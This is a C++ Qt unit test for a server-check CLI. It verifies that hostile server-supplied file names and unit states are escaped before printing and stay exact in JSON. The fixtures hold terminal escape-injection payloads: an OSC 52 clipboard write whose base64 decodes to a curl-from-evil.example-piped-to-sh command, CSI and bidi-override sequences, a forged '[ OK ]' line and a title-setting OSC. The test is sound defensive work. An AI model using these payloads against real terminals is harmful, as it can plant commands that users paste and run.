// hoshu-cli's human output of hostile server data: a stray dump whose file name
// carries OSC 52 (writes the user's clipboard), CSI and a forged "[ OK ]" line,
// and a unit state with a title-setting OSC. What `hoshu-cli check` prints
// (CheckCommand::toText through Terminal::print, the code path of finishOne)
// holds no control byte; --json stays exact.
#include "checks/Checker.h"
#include "cli/CheckCommand.h"
#include "cli/RefreshCommand.h"
#include "cli/Terminal.h"

#include "FixtureSnapshot.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QTemporaryFile>
#include <QTest>

#include <cstdio>
#ifdef Q_OS_WIN
#include <io.h>
#define HOSHU_DUP _dup
#define HOSHU_DUP2 _dup2
#define HOSHU_CLOSE _close
#else
#include <unistd.h>
#define HOSHU_DUP dup
#define HOSHU_DUP2 dup2
#define HOSHU_CLOSE close
#endif

namespace {

const QString Esc(QChar(0x1b));
const QString Bel(QChar(0x07));

QString hostileFileName()
{
    return QStringLiteral("/root/") + Esc + QStringLiteral("]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==") + Bel + Esc
        + QStringLiteral("[2K") + QStringLiteral("dump") + QChar(0x9b) + QStringLiteral("31m") + QChar(0x202e)
        + QStringLiteral("lqs.sql\n[ OK ] Everything is fine");
}

QString hostileState()
{
    return QStringLiteral("failed") + Esc + QStringLiteral("]0;pwned") + Bel + QStringLiteral("\r\b");
}

// Everything a terminal could act on: C0 but '\n', DEL, C1 (as characters), bidi overrides.
QString firstControl(const QString &text)
{
    for (QChar ch : text) {
        const char16_t c = ch.unicode();
        if ((c < 0x20 && c != u'\n') || c == 0x7f || (c >= 0x80 && c <= 0x9f) || (c >= 0x202a && c <= 0x202e)
            || (c >= 0x2066 && c <= 0x2069))
            return QStringLiteral("U+%1").arg(uint(c), 4, 16, QLatin1Char('0'));
    }
    return {};
}

CheckCommand::Result hostileResult()
{
    CheckCommand::Result r;
    r.profile.name = QStringLiteral("example");
    r.reached = true;
    r.snapshot = FixtureSnapshot::load(QStringLiteral("debian-12-testhost-big-journal+stray-dumps+backup-truncated"));
    if (r.snapshot.dumps.files.isEmpty())
        qFatal("the stray-dumps fixture lists no dump");
    r.snapshot.dumps.files[0].path = hostileFileName();
    bool changed = false;
    for (SystemdUnit &u : r.snapshot.units.units) {
        if (u.id == QLatin1String("mastodon-web.service")) {
            u.activeState = hostileState();
            changed = true;
        }
    }
    if (!changed)
        qFatal("the fixture has no mastodon-web.service");
    r.findings = Checker::evaluate(r.snapshot);
    return r;
}

// What a function writes to stdout (fd 1), byte for byte.
template<typename F>
QByteArray captureStdout(F write)
{
    QTemporaryFile file;
    if (!file.open())
        qFatal("no temporary file");
    std::fflush(stdout);
    const int saved = HOSHU_DUP(1);
    HOSHU_DUP2(file.handle(), 1);
    write();
    std::fflush(stdout);
    HOSHU_DUP2(saved, 1);
    HOSHU_CLOSE(saved);
    file.seek(0);
    return file.readAll();
}

} // namespace

class TestCliText : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void checkTextHasNoControl();
    void printedCheckOutputHasNoEscByte();
    void jsonStaysExact();
    void refreshLineHasNoControl();
};

void TestCliText::checkTextHasNoControl()
{
    const CheckCommand::Result r = hostileResult();
    const QString text = CheckCommand::toText({r}, true);
    QVERIFY2(firstControl(text).isEmpty(), qPrintable(firstControl(text) + QStringLiteral(" in:\n") + text));
    // The file name is there, visibly escaped, and cannot start a line of its own.
    QVERIFY2(text.contains(QStringLiteral("\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007")), qPrintable(text));
    QVERIFY2(text.contains(QStringLiteral("\\u202elqs.sql\\n[ OK ] Everything is fine")), qPrintable(text));
    const QStringList lines = text.split(QLatin1Char('\n'));
    for (const QString &line : lines)
        QVERIFY2(!line.startsWith(QStringLiteral("[ OK ] Everything")), qPrintable(line));
    QVERIFY2(text.contains(QStringLiteral("failed\\u001b]0;pwned\\u0007\\r\\u0008")), qPrintable(text));
}

void TestCliText::printedCheckOutputHasNoEscByte()
{
    const CheckCommand::Result r = hostileResult();
    const QByteArray out = captureStdout([&] { Terminal::print(CheckCommand::toText({r}, true)); });
    QVERIFY(out.contains("[WARN]"));
    QVERIFY(out.contains("52;c;"));
    QVERIFY2(!out.contains('\x1b'), out.constData());
    QVERIFY(!out.contains('\x07'));
    QVERIFY(!out.contains('\r'));
    QVERIFY(!out.contains("\xc2\x9b"));     // U+009B, the 8-bit CSI
    QVERIFY(!out.contains("\xe2\x80\xae")); // U+202E RIGHT-TO-LEFT OVERRIDE

    // The safety net under every human message: even unescaped server text
    // handed to Terminal::message/print cannot reach the terminal raw.
    const QByteArray raw = captureStdout([&] { Terminal::print(hostileFileName()); });
    QVERIFY(!raw.contains('\x1b'));
    QVERIFY(!raw.contains("\xc2\x9b"));
}

void TestCliText::jsonStaysExact()
{
    const CheckCommand::Result r = hostileResult();
    const QJsonObject json = CheckCommand::toJson({r});
    // The values are the server's exactly...
    bool found = false;
    for (const QJsonValue &f : json.value(QStringLiteral("servers")).toArray().at(0).toObject()
                                   .value(QStringLiteral("findings")).toArray()) {
        if (f.toObject().value(QStringLiteral("id")).toString() == QLatin1String("disk.stray_dumps"))
            found = f.toObject().value(QStringLiteral("message")).toString().contains(hostileFileName());
    }
    QVERIFY2(found, "the JSON message holds the file name exactly");
    // ...and the printed document parses back to the same values, with no control byte on the way.
    const QByteArray out = captureStdout([&] { Terminal::printJson(QJsonDocument(json)); });
    QVERIFY(!out.contains('\x1b'));
    QVERIFY(!out.contains("\xc2\x9b"));
    QVERIFY(!out.contains("\xe2\x80\xae"));
    QJsonParseError error;
    const QJsonDocument back = QJsonDocument::fromJson(out, &error);
    QCOMPARE(error.error, QJsonParseError::NoError);
    QCOMPARE(back.object(), json);
}

void TestCliText::refreshLineHasNoControl()
{
    const QString line = RefreshCommand::line(QStringLiteral("srv") + Esc + QStringLiteral("[31m"), Severity::Warning, 2,
                                              1200, hostileFileName());
    QVERIFY2(firstControl(line).isEmpty(), qPrintable(line));
    QVERIFY(!line.contains(QLatin1Char('\n')));
}

QTEST_GUILESS_MAIN(TestCliText)
#include "test_cli_text.moc"
